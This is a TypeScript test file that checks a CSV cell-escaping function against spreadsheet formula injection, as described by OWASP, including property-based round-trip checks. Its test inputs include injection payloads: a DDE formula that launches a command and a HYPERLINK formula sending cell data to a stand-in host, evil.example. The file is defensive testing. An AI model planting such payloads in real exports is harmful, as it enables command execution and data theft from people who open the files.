import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { csvCell, csvLine } from '../../../shared/record/csv-cell.ts';

// OWASP, "CSV Injection": cells beginning with = + - @, their full-width forms, tab, carriage return or line feed are run as
// formulas; and field separators and quotes have to be inside quotes.
test.each([
  ['=1+1', "'=1+1"],
  ['+SUM(A1)', "'+SUM(A1)"],
  ['@cmd', "'@cmd"],
  ['-2+3', "'-2+3"],
  ['=A,B', `"'=A,B"`],
  ['\t=1', `"'\t=1"`],
  ['\rx', `"'\rx"`],
  ['\nx', `"'\nx"`],
  [' =1+1', "' =1+1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\u3000@x', "'\u3000@x"],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u0000=1', "'\u0000=1"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－2+3', "'－2+3"],
  ['＠SUM(A1)', "'＠SUM(A1)"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
  ['-1+cmd', "'-1+cmd"],
  ['x;=1+1', '"x;=1+1"'],
  ['x\t=1+1', '"x\t=1+1"'],
  ['x\r\n=1+1', '"x\r\n=1+1"'],
  ['-1e-7', '-1e-7'],
  ['-12.50', '-12.50'],
  ['-12', '-12'],
  ['a,b', '"a,b"'],
  ['say "so"', '"say ""so"""'],
  ['two\nlines', '"two\nlines"'],
  [' padded ', '" padded "'],
  ['贵州茅台', '贵州茅台'],
])('%j is written %j', (value, written) => {
  expect(csvCell(value)).toBe(written);
});

test('nothing is an empty cell and numbers are bare', () => {
  expect(csvLine([null, 0, -1.5, ''])).toBe(',0,-1.5,');
});

test('whatever is written, a CSV reader gives back, but for the apostrophe before a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.string(), { minLength: 2, maxLength: 5 }), (cells) => {
      const [row] = Papa.parse<string[]>(csvLine(cells), { delimiter: ',', newline: '\n' }).data;
      const back = row?.map((cell, index) => (cell === `'${cells[index]}` ? cells[index] : cell));
      expect(back).toEqual(cells);
    }),
  );
});
